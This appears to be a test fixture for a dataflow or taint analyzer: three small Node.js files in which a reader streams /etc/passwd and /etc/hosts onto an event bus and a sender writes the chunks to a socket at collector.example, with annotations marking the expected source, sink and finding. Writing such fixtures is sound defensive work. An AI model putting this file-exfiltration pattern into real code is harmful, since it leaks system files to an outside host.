// --- path: bus.js ---
// Two classes know each other by the names of events alone.
const { EventEmitter } = require('events');

class Bus extends EventEmitter {}

module.exports = new Bus();
// --- path: reader.js ---
const fs = require('fs');
const bus = require('./bus');

class Reader {
  constructor(paths) {
    this.paths = paths;
  }

  start() {
    for (const path of this.paths) {
      fs.createReadStream(path).on('data', (chunk) => bus.emit('chunk', path, chunk)); //~ source(FILE) f1
    }
    bus.emit('started', this.paths.length);
  }
}

new Reader(['/etc/hosts', '/etc/passwd']).start();
// --- path: sender.js ---
const net = require('net');
const bus = require('./bus');

const socket = net.connect(7600, 'collector.example');

bus.on('chunk', (path, chunk) => {
  socket.write(chunk); //~ sink(egress.socket) f1, finding(file-upload, traced) f1
});

bus.on('started', (count) => {
  socket.write(count > 1 ? 'many' : 'one'); //~ ok
});
